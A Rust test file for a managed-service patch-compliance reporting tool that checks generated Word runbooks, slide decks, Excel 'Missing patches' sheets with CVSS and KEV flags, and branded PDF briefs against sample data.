        "[kpi.grace_days]\ncritical = 10\n[tickets]\nopen_after_hours = 48\n[owners]\nnoc_lead = \"noc@contoso.example\"\n",
        "after.docx",
    );
    assert_ne!(before, after);
    assert!(
        before.contains("Every tier 14 30 60 90 30 kpi.grace_days"),
        "{before}"
    );
    assert!(
        after.contains("Every tier 10 30 60 90 30 kpi.grace_days"),
        "{after}"
    );
    assert!(before.contains("open longer than 72 hours") && after.contains("open longer than 48 hours"));
    assert!(before.contains("NOC lead unassigned") && after.contains("NOC lead noc@contoso.example"));
    assert!(after.contains("settings of govpack.toml"), "{after}");
}

/// python-docx opens the runbook as Word's object model would.
#[test]
fn python_docx_reads_the_runbooks_headings_and_every_rules_setting() {
    let Ok(python) = std::env::var("GOVPACK_OFFICE_PYTHON") else {
        eprintln!("GOVPACK_OFFICE_PYTHON is not set: python-docx check not run (.ci/run sets it)");
        return;
    };
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let bundle = bundle_of(
        &lake,
        october(),
        Some("29683500"),
        dir.path(),
        &reports::Brand::default(),
    );
    let script = "import sys\nfrom docx import Document\nd = Document(sys.argv[1])\n\
        print('\\n'.join(p.text for p in d.paragraphs if p.style.name == 'Heading 1'))\n\
        rules = [t for t in d.tables if t.rows[0].cells[0].text == 'Rule']\n\
        print('rules', sum(len(t.rows) - 1 for t in rules), 'cited', sum(1 for t in rules for r in t.rows[1:] if r.cells[1].text))\n";
    let out = std::process::Command::new(python)
        .args(["-c", script])
        .arg(bundle.join(reports::runbook::FILE))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let printed = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(lines[0], "1. Roles and owners", "{printed}");
    assert_eq!(lines[10], "11. Schedule of the jobs", "{printed}");
    let counts: Vec<usize> = lines[11].split(' ').filter_map(|w| w.parse().ok()).collect();
    // Every rule but those of how govpack works (no setting) cites one.
    assert!(counts[0] >= 25 && counts[1] >= 20, "{printed}");
}

/// The deck's "waiting for a decision" list: approved drivers no exception covers (C10's
/// exceptions) and updates waiting for review (C11's population), never a declined driver.
#[test]
fn the_decks_decisions_list_approved_drivers_without_an_exception_and_pending_reviews_not_declined_drivers() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let conn = reports::session(&lake, None).unwrap();
    let queries = govpack::sql::NamedQueries::read("reports/deck.sql").unwrap();
    reports::bind_period(&conn, october()).unwrap();
    let query = queries.bound(&conn, "awaiting-approval").unwrap();
    let (_, rows) = govpack::sql::rows(&conn, query).unwrap();
    let kinds = |kind: &str| rows.iter().filter(|r| r[4].to_text() == kind).count() as i64;
    let count = |sql: &str| -> i64 { conn.query_row(sql, [], |r| r.get(0)).unwrap() };
    // Counted independently from the period's patch snapshot rather than the control's output.
    let approved_drivers_without_exception = count(
        "select count(*) from driver_approvals where period_start = date '2026-10-01' \
         and approval = 'approved' and not approved_by_exception",
    );
    let declined = count(
        "select count(*) from driver_approvals where period_start = date '2026-10-01' and approval = 'declined'",
    );
    assert!(declined > 0, "the sample has declined drivers to leave out");
    assert_eq!(
        kinds("driver_approved_without_exception"),
        approved_drivers_without_exception
    );
    assert_eq!(approved_drivers_without_exception, 11);
    assert_eq!(
        kinds("pending_review"),
        count("select count(*) from pending_reviews where period_start = date '2026-10-01'")
    );
    assert_eq!(
        rows.len() as i64,
        kinds("driver_approved_without_exception") + kinds("pending_review")
    );
    // An expiring exception names its device as the client knows it, not by the RMM's id.
    let query = queries.bound(&conn, "expiring-exceptions").unwrap();
    let (_, expiring) = govpack::sql::rows(&conn, query).unwrap();
    let sql01 = expiring
        .iter()
        .find(|r| r[2].to_text() == "KB5044663")
        .expect("nwd-1014's exception of KB5044663 expires 2026-11-14");
    assert_eq!(sql01[0].to_text(), "NWD-SQL01");
}

#[test]
fn the_scorecard_slides_notes_name_every_stale_client_and_every_figure_not_measured() {
    // Without the vulnerability reference (the sample's JSON), KEV figures are not measured.
    let dir = TempDir::new().unwrap();
    let lake = sample_lake_of(dir.path(), &["csv"]);
    let summary = {
        let session = reports::session(&lake, None).unwrap();
        reports::summary::build(&session, october()).unwrap()
    };
    assert!(
        !summary.not_measured.is_empty(),
        "the sample without its reference has gaps"
    );
    let deck = deck_of(&lake, None, dir.path(), &reports::Brand::default());
    let parts = package_parts(&deck);
    let notes = texts_of(&parts["ppt/notesSlides/notesSlide2.xml"]);
    let slide = texts_of(&parts["ppt/slides/slide2.xml"]);
    for (client, since) in &summary.stale_clients {
        assert!(
            notes.contains(client) && notes.contains(since),
            "{client}: {notes}"
        );
    }
    let names = reports::template::template().unwrap();
    for gap in &summary.not_measured {
        let line = format!("Not measured (no {})", gap.missing);
        assert!(notes.contains(&line), "{line} in the notes: {notes}");
        // The slide names a gap's first figures; its notes name every one.
        for kpi in &gap.kpis {
            let name = names.measure_name(kpi);
            assert!(notes.contains(&name), "{name} in the notes: {notes}");
        }
        assert!(
            slide.contains(&line) || slide.contains("more caveats"),
            "{line} on the slide, or counted there: {slide}"
        );
    }
}

#[test]
fn a_clients_missing_patches_sheet_lists_each_devices_missing_updates_with_cvss_kev_and_reboot_pending() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let tenant = "29683500";
    let session = reports::session(&lake, Some(tenant)).unwrap();
    let strings = |sql: &str| -> Vec<String> {
        let mut stmt = session.prepare(sql).unwrap();
        let mut out: Vec<String> = stmt
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect();
        out.sort();
        out
    };
    // What the RMM reported for each listed update at the device's patch snapshot.
    let reported = strings(&format!(
        "with latest as (select * from lake.patch_status where tenant_id = '{tenant}' \
         and snapshot_date <= date '2026-10-31' \
         qualify snapshot_date = max(snapshot_date) over (partition by device_id)), \
         names as (select distinct device_id, hostname from lake.devices where tenant_id = '{tenant}') \
         select hostname || ' ' || patch_id || ' ' || state from latest join names using (device_id)"
    ));
    let overdue = strings(&format!(
        "select hostname || ' ' || patch_id from overdue_patches \
         where period_start = date '2026-10-01' and tenant_id = '{tenant}'"
    ));
    let mut book = workbook(&lake, Some(tenant), &dir.path().join("client.xlsx"));
    let sheet = cells(&mut book, "Missing patches");
    let header: Vec<String> = sheet[0].iter().map(|c| c.to_string()).collect();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name}: {header:?}"))
    };
    let rows = &sheet[1..];
    assert!(!rows.is_empty());
    assert!(
        rows.iter()
            .all(|r| r[col("tenant_id")] == Data::String(tenant.into()))
    );
    let text = |r: &[Data], name: &str| r[col(name)].to_string();
    for r in rows {
        let state = text(r, "state");
        assert!(
            ["missing", "failed", "pending_reboot"].contains(&state.as_str()),
            "{r:?}"
        );
        assert_eq!(r[col("reboot_pending")], Data::Bool(state == "pending_reboot"));
        let line = format!("{} {} {state}", text(r, "hostname"), text(r, "patch_id"));
        assert!(
            reported.binary_search(&line).is_ok(),
            "{line} is what the RMM reported"
        );
    }
    // Every overdue update is listed as overdue; the list also holds the ones still in their grace days.
    let mut listed_overdue: Vec<String> = rows
        .iter()
        .filter(|r| r[col("overdue")] == Data::Bool(true))
        .map(|r| format!("{} {}", text(r, "hostname"), text(r, "patch_id")))
        .collect();
    listed_overdue.sort();
    assert_eq!(listed_overdue, overdue);
    assert!(rows.len() > overdue.len(), "updates not yet due are listed too");
    // A KB the MSRC reference names carries its highest CVSS; the KEV catalog is in the sample.
    let cvss: Vec<f64> = rows
        .iter()
        .filter_map(|r| r[col("cvss_base_score")].get_float())
        .collect();
    assert!(
        !cvss.is_empty() && cvss.iter().all(|s| (0.0..=10.0).contains(s)),
        "{cvss:?}"
    );
    // Known (true or false) exactly where the MSRC reference names the update's CVEs; unknown for
    // an update it does not cover (the sample's Chrome update), never "no".
    let referenced = strings("select distinct patch_id from lake.patch_cves");
    for r in rows {
        let known = matches!(r[col("kev")], Data::Bool(_));
        let covered = referenced.binary_search(&r[col("patch_id")].to_string()).is_ok();
        assert_eq!(known, covered, "{r:?}");
    }
    assert!(
        rows.iter()
            .any(|r| r[col("patch_id")].to_string().starts_with("chrome") && r[col("kev")] == Data::Empty)
    );
    // Each device's overdue updates come first.
    for device in rows.chunk_by(|a, b| a[col("device_id")] == b[col("device_id")]) {
        let overdue: Vec<bool> = device
            .iter()
            .map(|r| r[col("overdue")] == Data::Bool(true))
            .collect();
        assert!(overdue.is_sorted_by(|a, b| a >= b), "{overdue:?}");
    }
}

#[test]
fn without_the_kev_catalog_the_missing_patches_kev_flag_is_unknown_not_no() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake_of(dir.path(), &["csv"]);
    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    let sheet = cells(&mut book, "Missing patches");
    let kev = sheet[0]
        .iter()
        .position(|h| *h == Data::String("kev".into()))
        .unwrap();
    assert!(sheet.len() > 1);
    assert!(
        sheet[1..].iter().all(|r| r[kev] == Data::Empty),
        "{:?}",
        &sheet[1]
    );
}

/// A PNG logo of this size: an orange square on transparency, as the png crate encodes it.
fn logo_png(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, width, height);
    encoder.set_color(png::ColorType::Rgba);
    encoder.set_depth(png::BitDepth::Eight);
    let pixels: Vec<u8> = (0..width * height)
        .flat_map(|i| {
            if i % width < width / 2 {
                [0xD9, 0x73, 0x1A, 0xFF]
            } else {
                [0, 0, 0, 0]
            }
        })
        .collect();
    let mut writer = encoder.write_header().unwrap();
    writer.write_image_data(&pixels).unwrap();
    writer.finish().unwrap();
    bytes
}

fn contoso(paper: govpack::config::Paper) -> reports::Brand {
    reports::Brand {
        msp_name: Some("Contoso Managed Services".into()),
        logo: Some(logo_png(120, 40)),
        paper,
        ..Default::default()
    }
}

#[test]
fn the_proof_brief_carries_the_msps_name_and_logo_on_the_paper_configured() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let session = reports::session(&lake, Some("29683500")).unwrap();
    let media_box = |pdf: &lopdf::Document| -> Vec<f32> {
        pdf.get_pages()
            .values()
            .map(|id| {
                pdf.get_dictionary(*id)
                    .unwrap()
                    .get(b"MediaBox")
                    .unwrap()
                    .as_array()
                    .unwrap()
                    .clone()
            })
            .map(|b| b.iter().map(|v| v.as_float().unwrap()).collect::<Vec<f32>>())
            .reduce(|a, b| {
                assert_eq!(a, b, "every page the same size");
                a
            })
            .unwrap()
    };
    let write = |name: &str, brand: &reports::Brand| {
        let path = dir.path().join(name);
        reports::proof_brief::write(&session, october(), "29683500", None, brand, &path).unwrap();
        lopdf::Document::load(&path).unwrap()
    };
    let plain = write("plain.pdf", &reports::Brand::default());
    let a4 = media_box(&plain);
    assert!(
        (a4[2] - 595.3).abs() < 0.5 && (a4[3] - 841.9).abs() < 0.5,
        "A4 by default: {a4:?}"
    );
    let images = |pdf: &lopdf::Document| -> Vec<(i64, i64)> {
        pdf.objects
            .values()
            .filter_map(|o| o.as_stream().ok())
            .filter(|st| st.dict.get(b"Subtype").and_then(|v| v.as_name()).ok() == Some(b"Image".as_slice()))
            .filter(|st| {
                !st.dict.has(b"Decode")
                    && st.dict.get(b"ColorSpace").and_then(|v| v.as_name()).ok()
                        == Some(b"DeviceRGB".as_slice())
            })
            .map(|st| {
                (
                    st.dict.get(b"Width").unwrap().as_i64().unwrap(),
                    st.dict.get(b"Height").unwrap().as_i64().unwrap(),
                )
            })
            .collect()
    };
    assert!(images(&plain).is_empty());
    let text = |pdf: &lopdf::Document| {
        let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
        pdf.extract_text(&pages[..1])
            .unwrap()
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert!(!text(&plain).contains("Prepared by"));

    let branded = write("letter.pdf", &contoso(govpack::config::Paper::Letter));
    let letter = media_box(&branded);
    assert!(
        (letter[2] - 612.0).abs() < 0.5 && (letter[3] - 792.0).abs() < 0.5,
        "Letter: {letter:?}"
    );
    assert!(
        text(&branded).contains("Prepared by Contoso Managed Services"),
        "{}",
        text(&branded)
    );
    assert_eq!(images(&branded), [(120, 40)], "the logo, its own pixels");
    // The same brand writes the same bytes (the logo's name is fixed, not printpdf's random one).
    let again = write("again.pdf", &contoso(govpack::config::Paper::Letter));
    assert_eq!(
        std::fs::read(dir.path().join("letter.pdf")).unwrap(),
        std::fs::read(dir.path().join("again.pdf")).unwrap()
    );
    drop(again);
}

#[test]
fn the_workbook_carries_the_msps_name_and_logo_beside_the_summary_and_plain_statuses() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let session = reports::session(&lake, Some("29683500")).unwrap();
    let path = dir.path().join("branded.xlsx");
    reports::workbook::write(&session, october(), &contoso(govpack::config::Paper::A4), &path).unwrap();
    let parts = package_parts(&path);
    assert!(
        parts
            .keys()
            .any(|p| p.starts_with("xl/media/") && p.ends_with(".png")),
        "the logo"
    );
    let app = String::from_utf8(parts["docProps/app.xml"].clone()).unwrap();
    assert!(
        app.contains("<Company>Contoso Managed Services</Company>"),
        "{app}"
    );
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let summary = cells(&mut book, "Summary");
    let header_len = summary[0].iter().filter(|c| **c != Data::Empty).count();
    assert!(
        summary
            .iter()
            .any(|r| r.get(header_len + 1)
                == Some(&Data::String("Prepared by Contoso Managed Services".into()))),
        "one column clear of the table"
    );
    // The Summary speaks in words; the Scorecard keeps the codes an analyst filters on.
    let status = summary[0]
        .iter()
        .position(|c| *c == Data::String("status".into()))
        .unwrap();
    let statuses: Vec<String> = summary[1..]
        .iter()
        .map(|r| r[status].to_string())
        .filter(|s| !s.is_empty())
        .collect();
    assert!(!statuses.is_empty());
    assert!(statuses.iter().all(|s| !s.contains('_')), "{statuses:?}");
    let scorecard = cells(&mut book, "Scorecard");
    let status = scorecard[0]
        .iter()
        .position(|c| *c == Data::String("status".into()))
        .unwrap();
    assert!(scorecard[1..].iter().any(|r| {
        ["met", "improving", "not_improving", "no_baseline"].contains(&r[status].to_string().as_str())
    }));
}

#[test]
fn a_logo_that_is_not_a_whole_png_stops_the_report_before_anything_is_written() {
    let dir = TempDir::new().unwrap();
    // A PNG's header with nothing after it: its size reads, its pixels do not.
    let mut truncated = logo_png(8, 8);
    truncated.truncate(40);
    std::fs::write(dir.path().join("logo.png"), &truncated).unwrap();
    let config = Config {
        base_dir: dir.path().to_path_buf(),
        report: govpack::config::ReportSettings {
            logo: Some("logo.png".into()),
            ..Default::default()
        },
        ..Default::default()
    };
    let error = reports::Brand::configured(&config).unwrap_err();
    assert!(
        error.to_string().contains("report.logo") && error.to_string().contains("not a PNG"),
        "{error}"
    );
    std::fs::write(dir.path().join("logo.png"), logo_png(8, 8)).unwrap();
    assert!(reports::Brand::configured(&config).is_ok());
}

#[test]
fn a_device_without_per_patch_state_is_listed_as_not_measured_not_left_off_the_missing_patches() {
    // Cedar Valley Family Clinic sends only a status per device (Datto RMM's summary).
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let cedar = "29683534";
    let session = reports::session(&lake, Some(cedar)).unwrap();
    let managed: i64 = session
        .query_row(
            "select count(*) from compliance_devices where period_start = date '2026-10-01' \
             and tenant_id = ? and not excluded",
            [cedar],
            |r| r.get(0),
        )
        .unwrap();
    let mut book = workbook(&lake, Some(cedar), &dir.path().join("cedar.xlsx"));
    let sheet = cells(&mut book, "Missing patches");
    let state = sheet[0]
        .iter()
        .position(|h| *h == Data::String("state".into()))
        .unwrap();
    let rows = &sheet[1..];
    assert_eq!(rows.len() as i64, managed, "one row per managed device");
    assert!(managed > 0);
    assert!(
        rows.iter()
            .all(|r| r[state] == Data::String("not_measured".into())),
        "{rows:?}"
    );
}
